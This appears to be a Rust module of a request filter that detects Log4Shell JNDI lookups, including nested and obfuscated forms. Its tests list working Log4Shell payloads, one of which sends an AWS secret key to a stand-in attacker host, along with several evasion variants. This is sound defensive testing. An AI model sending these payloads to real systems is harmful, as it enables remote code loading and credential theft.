//! JNDI / Log4Shell: a `${jndi:…}` lookup, also when its name is assembled
//! from nested lookups (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`,
//! `${${env:X:-j}ndi:`), which a one-pass resolver evaluates the way Log4j's
//! substitutor does: a default (`:-`) or a case lookup (`lower:`, `upper:`)
//! yields its text, any other lookup yields nothing.
//!
//! At `High`, any Log4j lookup (`${env:…}`, `${sys:…}`, `${ctx:…}` …) counts:
//! it leaks data into logs even without JNDI.

use std::collections::VecDeque;

use crate::{Sensitivity, Views};

/// Nested lookups kept: past this depth the outermost is forgotten (the
/// innermost ones are the ones that resolve first).
const MAX_DEPTH: usize = 32;

/// The bytes of a lookup kept: enough for every prefix that matters.
const KEEP: usize = 64;

/// Log4j lookup names (flagged alone at `High`).
const LOOKUPS: &[&[u8]] = &[
    b"env:",
    b"sys:",
    b"ctx:",
    b"java:",
    b"main:",
    b"bundle:",
    b"docker:",
    b"k8s:",
    b"log4j:",
    b"spring:",
    b"web:",
    b"date:",
    b"lower:",
    b"upper:",
    b"base64:",
    b"sd:",
    b"map:",
    b"marker:",
    b"event:",
    b"jvmrunargs:",
    b"hostname",
    b"kubernetes:",
    b"jndi:",
];

/// Builds the detector's automata (none: a hand-written resolver).
pub(super) fn warm() {}

/// Whether `v` carries a JNDI lookup.
pub(super) fn detect(v: &Views<'_>, level: Sensitivity) -> bool {
    let b = v.decoded.as_bytes();
    if !b.windows(2).any(|w| w == b"${") {
        return false;
    }
    resolve(b, level)
}

/// One lookup being read: its first [`KEEP`] bytes.
#[derive(Debug, Default)]
struct Lookup {
    text: Vec<u8>,
}

impl Lookup {
    fn push(&mut self, bytes: &[u8]) {
        let room = KEEP.saturating_sub(self.text.len());
        self.text.extend_from_slice(&bytes[..bytes.len().min(room)]);
    }

    fn is_jndi(&self) -> bool {
        starts_with_ci(&self.text, b"jndi:")
    }

    /// What the lookup yields: its default after `:-`, the argument of a
    /// case lookup or of `date:'…'`, else nothing.
    fn value(&self) -> &[u8] {
        let t = self.text.as_slice();
        if let Some(p) = t.windows(2).position(|w| w == b":-") {
            return &t[p + 2..];
        }
        for prefix in [b"lower:".as_slice(), b"upper:"] {
            if starts_with_ci(t, prefix) {
                return &t[prefix.len()..];
            }
        }
        if starts_with_ci(t, b"date:") {
            return t[5..].strip_prefix(b"'").map_or(&[][..], |r| {
                let e = r.iter().position(|&c| c == b'\'').unwrap_or(r.len());
                &r[..e]
            });
        }
        &[]
    }
}

/// Resolves the value's lookups in one pass with a bounded stack; whether a
/// lookup's name resolves to `jndi:` (or, at `High`, is any Log4j lookup).
fn resolve(b: &[u8], level: Sensitivity) -> bool {
    let mut stack: VecDeque<Lookup> = VecDeque::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            if stack.len() == MAX_DEPTH {
                stack.pop_front();
            }
            stack.push_back(Lookup::default());
            i += 2;
            continue;
        }
        if b[i] == b'}'
            && let Some(done) = stack.pop_back()
        {
            if done.is_jndi() {
                return true;
            }
            if level >= Sensitivity::High && LOOKUPS.iter().any(|l| starts_with_ci(&done.text, l)) {
                return true;
            }
            if let Some(outer) = stack.back_mut() {
                outer.push(done.value());
                if outer.is_jndi() {
                    return true;
                }
            }
            i += 1;
            continue;
        }
        if let Some(top) = stack.back_mut() {
            top.push(&b[i..=i]);
            // An unclosed `${jndi:ldap://…` is as bad as a closed one.
            if top.text.len() == 5 && top.is_jndi() {
                return true;
            }
        }
        i += 1;
    }
    false
}

fn starts_with_ci(t: &[u8], prefix: &[u8]) -> bool {
    t.len() >= prefix.len() && t[..prefix.len()].eq_ignore_ascii_case(prefix)
}

#[cfg(test)]
mod tests {
    use super::detect;
    use crate::{Place, Sensitivity, Views};

    fn jndi(raw: &str, level: Sensitivity) -> bool {
        detect(&Views::new(raw, Place::Header), level)
    }

    #[test]
    fn log4shell_and_its_obfuscations() {
        for attack in [
            "${jndi:ldap://evil.example/a}",
            "${JnDi:rmi://evil.example/a}",
            "${jndi:ldap://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${upper:J}${upper:N}${lower:D}${lower:I}:dns://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "Mozilla/5.0 ${jndi:ldap://x",
            "%24%7Bjndi:ldap://x/a%7D",
            "\\u0024{jndi:ldap://x}",
        ] {
            assert!(jndi(attack, Sensitivity::Low), "missed {attack:?}");
        }
    }

    #[test]
    fn other_lookups_only_at_high() {
        assert!(jndi("${env:USER}", Sensitivity::High));
        assert!(jndi("${sys:java.version}", Sensitivity::High));
        assert!(!jndi("${env:USER}", Sensitivity::Medium));
    }

    #[test]
    fn benign_dollar_braces_pass() {
        for benign in [
            "${price}",
            "total: ${amount} USD",
            "jndi is a Java API",
            "${a}${b}}}}",
            "${ jndi }",
            "{jndi:x}",
        ] {
            assert!(!jndi(benign, Sensitivity::High), "flagged {benign:?}");
        }
    }

    #[test]
    fn deep_nesting_is_bounded_and_still_resolves() {
        let s = "${".repeat(100_000) + "jndi:x" + &"}".repeat(100_000);
        assert!(jndi(&s, Sensitivity::Medium));
        let s = "${".repeat(100_000) + "x" + &"}".repeat(100_000);
        assert!(!jndi(&s, Sensitivity::Medium));
    }
}
